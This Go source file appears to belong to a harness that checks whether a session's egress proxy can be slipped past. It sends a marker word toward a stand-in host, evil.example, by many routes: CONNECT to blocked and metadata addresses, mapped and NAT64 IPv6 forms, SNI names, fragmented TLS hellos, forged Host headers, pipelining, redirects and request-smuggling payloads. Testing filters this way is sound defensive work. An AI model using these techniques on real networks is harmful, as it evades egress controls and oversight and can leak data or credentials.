//go:build linux

package main

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

// proxy is the address of the session's proxy; empty in a session without one,
// where these ways go straight to their target.
func proxy() string {
	u, err := url.Parse(os.Getenv("http_proxy"))
	if err != nil {
		return ""
	}
	return u.Host
}

// say sends bytes to the proxy, or to the target itself, and returns the status
// line of the answer.
func say(target, text string) (string, error) {
	address := proxy()
	if address == "" {
		address = target
	}
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience / 2))
	if _, err := io.WriteString(c, text); err != nil {
		return "", err
	}
	answer, err := io.ReadAll(c)
	line, _, _ := strings.Cut(string(answer), "\r\n")
	if line == "" {
		return "", fmt.Errorf("no answer: %w", err)
	}
	return line, nil
}

// tunnel asks the proxy for one.
func tunnel(authority, direct string) (net.Conn, error) {
	address := proxy()
	if address == "" {
		return net.DialTimeout("tcp", direct, patience)
	}
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", authority, authority); err != nil {
		c.Close()
		return nil, err
	}
	r := bufio.NewReader(c)
	resp, err := http.ReadResponse(r, &http.Request{Method: http.MethodConnect})
	if err != nil {
		c.Close()
		return nil, err
	}
	if resp.StatusCode != http.StatusOK {
		c.Close()
		return nil, fmt.Errorf("status %d", resp.StatusCode)
	}
	return c, nil
}

func through(authority, direct, word string) error {
	c, err := tunnel(authority, direct)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, word+"\n"); err != nil {
		return err
	}
	_, err = bufio.NewReader(c).ReadString('\n')
	return err
}

func proxyConnectPort(t targets, word string) error { return through(t.Evil, t.Evil, word) }

func proxyConnectIP(t targets, word string) error {
	for _, a := range t.EvilAt {
		return through(a, a, word)
	}
	return fmt.Errorf("the host has no other address")
}

func proxyConnectMetadata(t targets, word string) error { return through(t.Metadata, t.Metadata, word) }

func proxyMapped(t targets, word string) error {
	host, port, _ := net.SplitHostPort(t.Evil)
	a := "[::ffff:" + host + "]:" + port
	return through(a, a, word)
}

func proxyNAT64(t targets, word string) error {
	host, port, _ := net.SplitHostPort(t.Evil)
	return through("[64:ff9b::"+host+"]:"+port, t.Evil, word)
}

// hello is a TLS client's first message, for a server with the word in its name.
func hello(word string) ([]byte, error) {
	client, server := net.Pipe()
	go func() {
		_ = tls.Client(client, &tls.Config{ServerName: strings.TrimSuffix(word, ".") + ".evil.example", InsecureSkipVerify: true}).Handshake()
	}()
	buf := make([]byte, 16<<10)
	n, err := server.Read(buf)
	client.Close()
	return buf[:n], err
}

func sni(t targets, word string) error {
	b, err := hello(word)
	if err != nil {
		return err
	}
	return inTLS(t, b)
}

// sniFragmented cuts the hello into records of a few bytes.
func sniFragmented(t targets, word string) error {
	b, err := hello(word)
	if err != nil {
		return err
	}
	var cut []byte
	for body := b[5:]; len(body) > 0; {
		n := min(9, len(body))
		cut = append(append(cut, b[0], b[1], b[2], 0, byte(n)), body[:n]...)
		body = body[n:]
	}
	return inTLS(t, cut)
}

func inTLS(t targets, hello []byte) error {
	c, err := tunnel(t.AllowedTLS, t.AllowedTLS)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := c.Write(hello); err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 1))
	return err
}

func hostHeader(t targets, word string) error {
	url := "http://" + t.Allowed + "/"
	if proxy() == "" {
		url = "/"
	}
	_, err := say(t.Allowed, "GET "+url+" HTTP/1.1\r\nHost: "+word+"evil.example\r\nConnection: close\r\n\r\n")
	return err
}

// inTunnel speaks plain HTTP in a tunnel to the allowed server, and reads on
// until the end.
func inTunnel(t targets, text string) error {
	c, err := tunnel(t.Allowed, t.Allowed)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience / 2))
	if _, err := io.WriteString(c, text); err != nil {
		return err
	}
	_, err = io.ReadAll(c)
	return err
}

func tunnelHost(t targets, word string) error {
	return inTunnel(t, "GET / HTTP/1.1\r\nHost: "+word+"evil.example\r\nConnection: close\r\n\r\n")
}

// tunnelPipelined has a request for another host behind one that is let through.
func tunnelPipelined(t targets, word string) error {
	return inTunnel(t, "GET / HTTP/1.1\r\nHost: "+t.Allowed+"\r\n\r\nGET / HTTP/1.1\r\nHost: "+word+"evil.example\r\nConnection: close\r\n\r\n")
}

// redirect goes where an allowed server sends it.
func redirect(t targets, word string) error {
	return get(&http.Transport{Proxy: http.ProxyFromEnvironment}, "http://"+t.Allowed+"/redirect?to="+url.QueryEscape("http://"+t.Evil+"/"+word))
}

// hidden is a request that must not be seen as one.
func hidden(t targets, word string) string {
	return "GET http://" + t.Evil + "/" + word + " HTTP/1.1\r\nHost: " + t.Evil + "\r\nConnection: close\r\n\r\n"
}

// smuggle sends a request with another one behind or in it.
func smuggle(t targets, word, before string) error {
	if proxy() == "" {
		_, err := say(t.Evil, hidden(t, word))
		return err
	}
	_, err := say("", before+hidden(t, word))
	return err
}

func smuggleBoth(t targets, word string) error {
	return smuggle(t, word, "POST http://"+t.Allowed+"/ HTTP/1.1\r\nHost: "+t.Allowed+"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
}

func smuggleChunk(t targets, word string) error {
	return smuggle(t, word, "POST http://"+t.Allowed+"/ HTTP/1.1\r\nHost: "+t.Allowed+"\r\nTransfer-Encoding: chunked\r\n\r\n1;ext=\"\n\r\nx\r\n0\r\n\r\n")
}

func smugglePipelined(t targets, word string) error {
	return smuggle(t, word, "GET http://"+t.Allowed+"/ HTTP/1.1\r\nHost: "+t.Allowed+"\r\n\r\n")
}
